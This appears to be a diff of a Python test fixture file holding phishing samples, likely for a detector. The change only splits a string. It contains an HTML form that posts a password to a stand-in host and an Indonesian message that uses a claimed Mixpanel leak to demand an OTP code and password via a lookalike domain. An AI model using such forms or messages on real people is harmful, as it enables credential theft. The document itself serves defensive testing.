@@ -56,6 +56,7 @@ PHISH_HTML = (
     '<form action="https://collect.evil.test/pw"><input name="password"></form>'
 )
 PHISH_ID = (
-    "Yth. Budi Santoso,\r\n\r\nSetelah kebocoran data Mixpanel, akun Anda akan diblokir. Segera kirim kode OTP "
+    "Yth. Budi Santoso,\r\n\r\nSetelah kebocoran data Mixpanel, akun Anda akan diblokir. "
+    "Segera kirim kode OTP "
     "dan kata sandi Anda ke tim kami: https://examp1e-support.com/masuk\r\n"
 )
